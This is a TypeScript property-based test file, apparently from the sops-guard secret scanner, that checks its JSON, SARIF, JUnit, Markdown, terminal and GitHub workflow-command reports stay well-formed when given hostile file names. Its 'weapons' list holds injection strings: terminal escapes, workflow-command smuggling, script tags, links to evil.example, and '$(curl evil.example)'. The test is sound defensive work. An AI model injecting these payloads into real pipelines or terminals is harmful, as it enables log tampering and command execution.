// Names of files, keys and branches come from whoever opens a pull request. Whatever they hold, every format keeps its shape:
// it is read back here with a parser of its own, and says the same as for harmless names.
import fc from "fast-check";
import { marked, type Token, type Tokens } from "marked";
import { SaxesParser } from "saxes";
import { describe, expect, test } from "vitest";
import type { Finding } from "../finding.ts";
import { visible } from "../text/visible.ts";
import { toWorkflowCommands } from "./github.ts";
import { toJson } from "./json.ts";
import { toJunit } from "./junit.ts";
import { toMarkdown } from "./markdown.ts";
import { toPretty } from "./pretty.ts";
import { toSarif } from "./sarif.ts";
import { findingOf, reportOf, specimenRules } from "./specimen.ts";

const weapons = [
	"\n",
	"\r",
	"\r\n",
	"\u0000",
	"\u001b[2J",
	"\u001b]8;;https://evil.example\u0007",
	"\u009b31m",
	"\u202e",
	"\u2066",
	"\u2028",
	"\ufeff",
	"\ud83d",
	"\uffff",
	"::error::x",
	"\n::add-mask::0",
	"##[add-mask]0",
	"\r##[set-output name=x]y",
	"|",
	"\\|",
	"\\",
	"`",
	"``` x",
	"<script>alert(1)</script>",
	"<!--",
	"-->",
	"<img src=x>",
	"]]>",
	"<![CDATA[",
	"</failure>",
	"&lt;",
	"&",
	'"',
	"'",
	"[x](https://evil.example)",
	"![x](https://evil.example/x.png)",
	"https://evil.example",
	"www.evil.example",
	"**",
	"_",
	"~~",
	"# ",
	"- ",
	"{{",
	"%0A",
	"%",
	":",
	",",
	"$(curl evil.example)",
	"/",
	"..",
	"é",
	"🔑",
];
const hostile = fc
	.array(fc.oneof(fc.constantFrom(...weapons), fc.string({ maxLength: 3 })), { maxLength: 6 })
	.map((parts) => parts.join(""));

const anyFinding: fc.Arbitrary<Finding> = fc
	.record({
		path: hostile,
		message: hostile,
		fix: fc.option(hostile.map((text) => `Run \`sops ${text}\`, then ${text}`)),
		pointer: fc.option(hostile),
		commit: fc.option(hostile),
		related: fc.array(fc.record({ path: hostile, line: fc.constant(3), message: hostile }), { maxLength: 2 }),
		suppressed: fc.option(fc.record({ by: hostile, reason: hostile, until: hostile }), { freq: 4 }),
		known: fc.boolean(),
		severity: fc.constantFrom("critical", "medium", "low"),
	})
	.map(findingOf);

const anyReport = fc
	.record({
		findings: fc.array(anyFinding, { maxLength: 4 }),
		subject: hostile.map((text) => `3 commits, ${text}`),
		incomplete: fc.array(
			fc.record({
				what: hostile,
				why: hostile,
				path: fc.option(hostile),
				blocking: fc.boolean(),
			}),
			{ maxLength: 2 },
		),
	})
	.map(({ findings, ...more }) => reportOf(findings, more));

const options = { failOn: "high" } as const;
const holds = (check: (report: ReturnType<typeof reportOf>) => void) =>
	fc.assert(fc.property(anyReport, check), { numRuns: 300 });

/** What no format that may be printed holds: characters that steer a terminal, or the runner's command at any place. */
function expectPrintable(text: string): void {
	expect(text).not.toMatch(/[^\n\P{Cc}]|\p{Cf}|\p{Cs}|[\u2028\u2029]/u);
}

describe("hostile text", () => {
	test("json and sarif are read back as what went in", () => {
		holds((report) => {
			const json = toJson(report);
			expectPrintable(json);
			expect(json).not.toContain("##[");
			const parsed = JSON.parse(json);
			expect(parsed.findings.map(({ path }: Finding) => path)).toEqual(
				report.findings.map(({ path }) => path),
			);

			const sarif = toSarif(report, specimenRules, options);
			expectPrintable(sarif);
			expect(sarif).not.toContain("##[");
			const [run] = JSON.parse(sarif).runs;
			expect(run.results).toHaveLength(report.findings.length);
			for (const [at, { locations, message }] of run.results.entries()) {
				const { uri } = locations[0].physicalLocation.artifactLocation;
				expect(uri).toMatch(/^[\w.~%/-]*$/);
				expect(decodeURIComponent(uri)).toBe(report.findings[at]?.path.replace(/\p{Cs}/gu, "\ufffd"));
				expect(message.text).not.toContain("](");
			}
		});
	});

	test("junit is well-formed, with a test for every finding and gap", () => {
		holds((report) => {
			const text = toJunit(report, specimenRules, options);
			expectPrintable(text);
			expect(text).not.toMatch(/##\[|^\s*::/m);
			const elements: string[] = [];
			const names: string[] = [];
			const parser = new SaxesParser();
			parser.on("error", (error) => {
				throw error;
			});
			parser.on("opentag", ({ name, attributes }) => {
				elements.push(name);
				if (name === "testcase") names.push(attributes.classname as string);
			});
			parser.write(text).close();
			const places = [
				...report.findings.map(({ path }) => visible(path)),
				...report.incomplete.map(({ path }) => (path === null ? "repository" : visible(path))),
			];
			expect(names.filter((name) => name !== "sops-guard")).toEqual(
				places.filter((place) => place !== "sops-guard"),
			);
			for (const name of elements) {
				expect(name).toMatch(/^(testsuites?|testcase|failure|error|skipped|system-out)$/);
			}
		});
	});

	test("markdown keeps one row of five cells a finding, and links nowhere but to our pages", () => {
		holds((report) => {
			const text = toMarkdown(report, specimenRules, options);
			expectPrintable(text);
			expect(text).not.toMatch(/##\[|^\s*::/m);
			const tokens = marked.lexer(text);
			const tables = tokens.filter((token): token is Tokens.Table => token.type === "table");
			const counting = report.findings.filter(({ known, suppressed }) => !known && suppressed === null);
			expect(tables.flatMap(({ rows }) => rows)).toHaveLength(counting.length);
			for (const line of text.split("\n").filter((line) => line.startsWith("|"))) {
				expect(line.match(/\|/g)).toHaveLength(6);
			}
			const blocks = tokens.map(({ type }) => type).filter((type) => type !== "space");
			expect(blocks.filter((type) => !/^(heading|paragraph|table|list)$/.test(type))).toEqual([]);
			expect(blocks.filter((type) => type === "heading")).toHaveLength(1);
			const inner = flattened(tokens);
			const marks = (raw: string) =>
				inner.filter((token) => token.type === "html" && token.raw === raw).length;
			expect(marks("<code>")).toBe(marks("</code>"));
			for (const token of inner) {
				if (token.type === "link")
					expect(token.href).toMatch(/^https:\/\/github\.com\/talent-mesh\/sops-guard\//);
				if (token.type === "html") expect(token.raw).toMatch(/^<\/?code>$|^<br>$/);
				expect(token.type).not.toMatch(/^(image|codespan|code|em|del|blockquote|hr|def)$/);
			}
		});
	});

	test("pretty has a line of its own for every place", () => {
		holds((report) => {
			const text = toPretty(report, specimenRules, { ...options, width: 60 });
			expectPrintable(text);
			const counting = report.findings.filter(({ known, suppressed }) => !known && suppressed === null);
			const heads = text.split("\n").filter((line) => /:14:9( |$)/.test(line) && !line.startsWith("  "));
			const expected = counting
				.map(({ path }) => `${visible(path)}:14:9`)
				.filter((place) => !place.startsWith("  "));
			expect(heads.map((line) => line.replace(/:14:9.*$/, ":14:9")).sort()).toEqual(expected.sort());
		});
	});

	test("workflow commands have titles of ours, and lines in messages only where we put them", () => {
		holds((report) => {
			for (const { properties, message } of toWorkflowCommands(report)) {
				expect(properties.title).toMatch(/^[a-z]+: sops-leaf-plaintext$|^sops-guard$|^What was asked for/);
				expectPrintable(message);
				expect(message.split("\n").length).toBeLessThanOrEqual(4);
			}
		});
	});
});

function flattened(tokens: readonly Token[]): Token[] {
	const all: Token[] = [];
	void marked.walkTokens([...tokens], (token) => {
		all.push(token);
	});
	return all;
}
